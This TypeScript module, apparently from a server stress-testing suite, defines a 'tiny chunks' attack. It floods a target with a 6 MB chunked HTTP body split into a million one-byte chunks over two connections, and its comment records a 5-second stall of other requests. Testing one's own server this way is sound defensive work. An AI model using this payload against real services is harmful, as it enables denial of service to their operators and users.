import type { Attack } from '../attack.ts'
import { rawFlood } from '../flood.ts'

const CHUNKS = '1\r\nx\r\n'.repeat(1_000_000)

/** No valid JSON, so that each is refused and costs nothing. */
export const tinyChunks: Attack = {
  name: 'tiny chunks',
  about: 'two at a time of 1,000,000 chunks of one byte, 6 MB; one of them held up all others for 5 s.',
  run: (target, signal) =>
    rawFlood(target, signal, {
      connections: 2,
      head: 'Transfer-Encoding: chunked',
      body: () => [CHUNKS, '0\r\n\r\n'],
    }),
}
